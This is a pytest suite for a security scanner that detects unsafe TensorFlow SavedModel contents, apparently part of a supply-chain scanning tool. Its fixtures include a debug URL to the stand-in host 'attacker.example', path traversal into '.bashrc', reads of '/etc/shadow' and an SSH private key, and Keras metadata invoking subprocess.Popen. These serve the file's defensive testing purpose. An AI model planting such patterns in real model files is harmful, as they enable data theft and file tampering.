"""The SavedModel scanner and the protocol-buffer reader under it: the standard saver and
asset wiring pass, operations that touch files, Python or the network are reported wherever
they hide, paths are traced to whoever chooses them, and no input makes the scanner raise.

SavedModels are written field by field with the corpus's protobuf writer; TensorFlow is not
needed and never imported.
"""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from samples import keras_tf_onnx as s
from scanning import mutated

from phalanx.core.findings import Finding, Severity
from phalanx.supplychain.scan import savedmodel as savedmodel_module
from phalanx.supplychain.scan._protobuf import Budget, Message, ProtobufError, read_varint
from phalanx.supplychain.scan.base import ScanLimits, ScanSession, Source
from phalanx.supplychain.scan.savedmodel import SavedModelScanner
from phalanx.supplychain.scan.sniff import sniff
from phalanx.testing import check_plugin

F, STR = s.a_type(s.DT_FLOAT), s.a_type(s.DT_STRING)


def _scan(target: Path | bytes, **limits: Any) -> list[Finding]:
    session = ScanSession(scanners={"savedmodel": SavedModelScanner()},
                          limits=ScanLimits(**limits))
    if isinstance(target, bytes):
        source = Source.from_bytes("saved_model.pb", target)
    else:
        source = Source.from_path(target / "saved_model.pb" if target.is_dir() else target)
    return list(SavedModelScanner().scan_source(source, session))


def _rules(findings: list[Finding], level: Severity = Severity.LOW) -> set[str]:
    return {f.evidence["rule"] for f in findings if f.severity >= level}


def _tf1(extra: list[bytes], **kwargs: Any) -> bytes:
    return s.saved_model(s._tf1_model_nodes() + extra + s._tf1_saver_nodes(), saver=s.TF1_SAVER,
                         **kwargs)


# -- the standard wiring passes ----------------------------------------------------------------


@pytest.mark.parametrize("build", [s._sm_tf1, s._sm_tf2])
def test_benign_savedmodels_give_nothing(build: Any, tmp_path: Path) -> None:
    target = build(tmp_path / "m", tmp_path / "CANARY")
    assert sniff(Source.from_path(target / "saved_model.pb")) == "savedmodel"
    assert _scan(target) == []


def test_scanner_contract() -> None:
    check_plugin(SavedModelScanner)


# -- operations -----------------------------------------------------------------------------------


def test_writefile_in_the_graph(tmp_path: Path) -> None:
    (finding,) = _scan(s._sm_writefile(tmp_path / "m", tmp_path / "CANARY"))
    assert finding.evidence["rule"] == "savedmodel-unsafe-op"
    assert finding.severity is Severity.HIGH
    assert finding.evidence["op"] == "WriteFile"
    assert finding.evidence["category"] == "file-write"
    assert finding.evidence["nodes"] == ["graph: hook/WriteFile"]


def test_pyfunc_hidden_in_a_function(tmp_path: Path) -> None:
    (finding,) = _scan(s._sm_pyfunc_in_function(tmp_path / "m", tmp_path / "CANARY"))
    assert finding.evidence["op"] == "EagerPyFunc"
    assert finding.evidence["nodes"] == ["function __inference_serve_241: EagerPyFunc"]


@pytest.mark.parametrize("op", ["ReadFile", "MatchingFiles", "PyFunc", "PyFuncStateless",
                                "RpcCall", "DataServiceDatasetV4", "ImmutableConst"])
def test_each_flagged_op(op: str) -> None:
    blob = _tf1([s.node("x_op", op, "x")])
    (finding,) = _scan(blob)
    assert finding.evidence["op"] == op and finding.severity is Severity.HIGH


def test_op_named_through_a_function_attribute() -> None:
    # A call op whose function is a primitive op: TensorFlow instantiates the op directly.
    blob = _tf1([
        s.const_str("p", "/etc/shadow"),
        s.node("call", "PartitionedCall", "p", f=s.a_func("ReadFile")),
        s.node("calls", "StatefulPartitionedCall", "p",
               branches=s.f_len(1, s.f_len(9, s.f_str(1, "WriteFile")))),
    ])
    ops = {f.evidence["op"]: f for f in _scan(blob)}
    assert set(ops) == {"ReadFile", "WriteFile"}
    assert "called through attribute 'f'" in ops["ReadFile"].detail


def test_calls_to_library_functions_are_not_ops(tmp_path: Path) -> None:
    assert _scan(s._sm_tf2(tmp_path / "m", tmp_path / "C")) == []  # calls __inference_*


def test_a_repeated_node_name_does_not_hide_a_node() -> None:
    blob = _tf1([s.node("y", "WriteFile", "x", "x")])  # "y" is also the output Identity
    assert _rules(_scan(blob)) == {"savedmodel-unsafe-op"}


def test_repeated_ops_collapse() -> None:
    blob = _tf1([s.node(f"w{i}", "WriteFile", "x", "x") for i in range(40)])
    (finding,) = _scan(blob)
    assert finding.evidence["count"] == 40 and len(finding.evidence["nodes"]) == 10


def test_debug_ops_with_urls_and_print_to_file() -> None:
    urls = s.f_len(1, s.f_str(2, "grpc://attacker.example:6064"))
    blob = _tf1([
        s.node("dbg", "DebugIdentityV2", "x", debug_urls=urls),
        s.node("dbg_quiet", "DebugIdentityV2", "x"),
        s.node("print", "PrintV2", "x", output_stream=s.a_str("file:///tmp/leak.txt")),
        s.node("print_ok", "PrintV2", "x", output_stream=s.a_str("stderr")),
    ])
    titles = sorted(f.title for f in _scan(blob))
    assert len(titles) == 2
    assert "grpc://attacker.example" in titles[0] and "file:///tmp/leak.txt" in titles[1]


# -- paths ---------------------------------------------------------------------------------------


def test_checkpoint_op_with_a_fixed_path(tmp_path: Path) -> None:
    (finding,) = _scan(s._sm_fixed_save_path(tmp_path / "m", tmp_path / "CANARY"))
    assert finding.evidence["rule"] == "savedmodel-fixed-path"
    assert finding.severity is Severity.HIGH
    assert finding.evidence["paths"] == [str(tmp_path / "CANARY")]


def test_fed_path_joined_with_a_traversal_is_high() -> None:
    blob = _tf1([
        s.const_str("evil/suffix", "/../../../../home/user/.bashrc"),
        s.node("evil/join", "StringJoin", "save/Const", "evil/suffix"),
        s.node("evil/save", "SaveV2", "evil/join", "save/SaveV2/tensor_names",
               "save/SaveV2/shape_and_slices", "W", "b"),
    ])
    (finding,) = _scan(blob)
    assert finding.severity is Severity.HIGH
    assert "leaves the model directory" in finding.detail


def test_checkpoint_op_with_a_relative_constant_path_is_high() -> None:
    blob = _tf1([s.const_str("p", "checkpoints/model"),
                 s.node("r", "RestoreV2", "p", "save/RestoreV2/tensor_names",
                        "save/RestoreV2/shape_and_slices")])
    (finding,) = _scan(blob)
    assert finding.severity is Severity.HIGH
    assert "fixed inside the model" in finding.detail


def test_unresolved_path_inputs_are_not_trusted() -> None:
    blob = _tf1([s.node("r", "RestoreV2", "nowhere", "a", "b"),
                 s.node("r2", "RestoreV2")])
    (finding,) = _scan(blob)
    assert finding.evidence["count"] == 2


def _table(filename_node: bytes, *, assets: bytes = b"", collection: bytes = b"") -> bytes:
    extra = [filename_node,
             s.node("table", "HashTableV2", key_dtype=STR, value_dtype=s.a_type(9)),
             s.node("table_init", "InitializeTableFromTextFileV2", "table", "vocab_path",
                    key_index=s.f_int(3, -2), value_index=s.f_int(3, -1))]
    blob = _tf1(extra)
    if not (assets or collection):
        return blob
    # add asset_file_def (6) or the TF1 collection (4) to the MetaGraphDef
    model = Message(blob)
    meta = model.message(2)
    assert meta is not None
    body = bytes(blob[meta.start:meta.end]) + assets + collection
    return s.msg(s.f_int(1, 1), s.f_len(2, body))


def test_vocabulary_tables_from_assets_pass() -> None:
    tensor_info = s.f_len(1, s.f_str(1, "vocab_path:0"))
    assets = s.f_len(6, s.msg(tensor_info, s.f_str(2, "vocab.txt")))
    assert _scan(_table(s.const_str("vocab_path", "assets/vocab.txt"), assets=assets)) == []
    node_list = s.f_len(1, s.f_str(1, "vocab_path:0"))
    collection = s.f_len(4, s.msg(s.f_str(1, "asset_filepaths"), s.f_len(2, node_list)))
    assert _scan(_table(s.const_str("vocab_path", "vocab.txt"), collection=collection)) == []
    fed = s.node("vocab_path", "Placeholder", dtype=STR, shape=s.a_shape())
    assert _scan(_table(fed)) == []


def test_vocabulary_tables_with_fixed_paths() -> None:
    (relative,) = _scan(_table(s.const_str("vocab_path", "vocab.txt")))
    assert relative.severity is Severity.MEDIUM
    assert relative.evidence["rule"] == "savedmodel-fixed-path"
    (absolute,) = _scan(_table(s.const_str("vocab_path", "/home/user/.ssh/id_rsa")))
    assert absolute.severity is Severity.HIGH


# -- Keras metadata ------------------------------------------------------------------------------


def _keras_lambda_metadata() -> str:
    return json.dumps({"class_name": "Lambda", "config": {
        "name": "lambda", "function": {"class_name": "__tuple__", "items": [
            s.lambda_bytecode(Path("/tmp/CANARY")), None, None]},
        "function_type": "lambda", "module": "__main__"}})


def test_keras_metadata_sidecar(tmp_path: Path) -> None:
    target = s._sm_tf2(tmp_path / "m", tmp_path / "C")
    node = s.msg(s.f_int(1, 3), s.f_str(2, "root.layer-1"), s.f_str(3, "_tf_keras_layer"),
                 s.f_str(4, _keras_lambda_metadata()), s.f_len(5, s.f_int(1, 2)))
    (target / "keras_metadata.pb").write_bytes(s.f_len(1, node))
    (finding,) = _scan(target)
    assert finding.evidence["rule"] == "keras-lambda"
    assert finding.severity is Severity.CRITICAL
    assert finding.evidence["where"] == "keras_metadata.pb root.layer-1"
    assert "os" in finding.evidence["code"]["suspicious"]


def test_keras_metadata_in_the_object_graph() -> None:
    metadata = json.dumps({"class_name": "Dense", "config": {"activation": {
        "module": "subprocess", "class_name": "function", "config": "Popen"}}})
    user = s.msg(s.f_str(1, "_tf_keras_layer"), s.f_len(2, s.f_int(1, 1)),
                 s.f_str(3, metadata))
    objects = s.f_len(7, s.f_len(1, s.f_len(4, user)))
    blob = s.saved_model(s._tf1_model_nodes())
    meta = Message(blob).message(2)
    assert meta is not None
    blob = s.msg(s.f_int(1, 1), s.f_len(2, bytes(blob[meta.start:meta.end]) + objects))
    (finding,) = _scan(blob)
    assert finding.evidence["rule"] == "keras-unsafe-import"


def test_bad_keras_metadata(tmp_path: Path) -> None:
    target = s._sm_tf2(tmp_path / "m", tmp_path / "C")
    node = s.msg(s.f_str(3, "_tf_keras_layer"), s.f_str(4, "{not json"))
    (target / "keras_metadata.pb").write_bytes(s.f_len(1, node))
    assert _rules(_scan(target)) == {"malformed"}
    (target / "keras_metadata.pb").write_bytes(b"\x0a\xff\xff")
    assert _rules(_scan(target)) == {"malformed"}
    node = s.msg(s.f_str(3, "_tf_keras_layer"), s.f_str(4, _keras_lambda_metadata()))
    (target / "keras_metadata.pb").write_bytes(s.f_len(1, node))
    assert _rules(_scan(target, max_header_bytes=100)) == {"header-too-large"}


# -- malformed input and bounds --------------------------------------------------------------------


@pytest.mark.parametrize("blob", [
    s.f_int(1, 1),                                # no MetaGraphDef
    s.f_int(1, 1) + s.f_int(2, 5),                # MetaGraphDef with the wrong wire type
    s.f_int(1, 1) + b"\x12\x80\x01abc",           # length past the end
    b"\x08\x01\x13",                              # start-group wire type
    b"\x08" + b"\xff" * 11,                       # varint longer than 10 bytes
])
def test_malformed_protobufs(blob: bytes) -> None:
    (finding,) = _scan(blob)
    assert finding.evidence["rule"] == "malformed" and finding.evidence["incomplete"]


def test_field_budget(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(savedmodel_module, "Budget", lambda: Budget(max_fields=50))
    (finding,) = _scan(s._sm_tf2(tmp_path / "m", tmp_path / "C"))
    assert finding.evidence["rule"] == "scan-error" and finding.evidence["incomplete"]


def test_member_sources_are_scanned() -> None:
    blob = _tf1([s.node("w", "WriteFile", "x", "x")])
    assert _rules(_scan(blob)) == {"savedmodel-unsafe-op"}
    assert _rules(_scan(blob, max_member_bytes=100)) == {"scan-error"}


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_mutated_savedmodels_never_raise(data: st.DataObject) -> None:
    blob = mutated(data, s.saved_model(s._tf2_nodes(), s._tf2_functions()))
    started = time.perf_counter()
    findings = _scan(blob)
    assert time.perf_counter() - started < 2.0
    assert all(isinstance(f, Finding) for f in findings)


# -- the wire reader ---------------------------------------------------------------------------


def test_reader_basics() -> None:
    msg = Message(s.msg(s.f_int(1, 150), s.f_str(2, "héllo"), s.f_len(3, s.f_int(1, 7)),
                        s.f_int(4, -1), s.f_f32(5, 1.5)))
    assert msg.integer(1) == 150 and msg.string(2) == "héllo"
    inner = msg.message(3)
    assert inner is not None and inner.integer(1) == 7
    assert next(msg.values(4)).signed() == -1
    assert msg.message(9) is None and msg.string(9, "x") == "x"
    assert read_varint(b"\xac\x02", 0, 2) == (300, 2)


@pytest.mark.parametrize(("blob", "problem"), [
    (b"\x00\x01", "field number 0"),
    (b"\x0b", "wire type 3"),
    (b"\x12\x05ab", "past the end"),
    (b"\x08", "truncated varint"),
    (b"\x09\x00", "truncated 64-bit"),
])
def test_reader_errors(blob: bytes, problem: str) -> None:
    with pytest.raises(ProtobufError, match=problem):
        list(Message(blob).fields())


def test_reader_depth_and_field_limits() -> None:
    deep = s.f_int(1, 1)
    for _ in range(150):
        deep = s.f_len(1, deep)

    def descend(msg: Message | None) -> None:
        while msg is not None:
            msg = msg.message(1)

    with pytest.raises(ProtobufError) as info:
        descend(Message(deep))
    assert info.value.limit
    with pytest.raises(ProtobufError) as info:
        list(Message(s.f_int(1, 1) * 20, budget=Budget(max_fields=10)).fields())
    assert info.value.limit


# -- sniffing ------------------------------------------------------------------------------------


def test_savedmodel_without_schema_version_is_still_sniffed() -> None:
    blob = s.saved_model([*s._tf1_model_nodes(), s.node("w", "WriteFile", "x", "x")])
    bare = blob[2:]  # drop field 1: optional, and TensorFlow does not need it
    assert bare[0] == 0x12
    assert sniff(Source.from_bytes("saved_model.pb", bare)) == "savedmodel"
    reordered = bare + blob[:2]
    assert sniff(Source.from_bytes("saved_model.pb", reordered)) == "savedmodel"


def test_hdf5_behind_a_user_block_is_sniffed(tmp_path: Path) -> None:
    h5py = pytest.importorskip("h5py")
    for first in (b"\x08\x01\x12" + b"\x00" * 509, b"# just text\n" * 42 + b"#" * 8):
        path = tmp_path / "u.h5"
        with h5py.File(path, "w", userblock_size=512) as h5:
            h5.attrs["model_config"] = "{}"
        with open(path, "r+b") as fh:
            fh.write(first[:512])
        assert sniff(Source.from_path(path)) == "hdf5"


def test_text_that_starts_like_a_protobuf_stays_text() -> None:
    for text in (b"Build notes\n" * 10, b"2024-01-01 log line\n" * 50, b'"quoted"\n'):
        assert sniff(Source.from_bytes("notes.txt", text)) == "text"
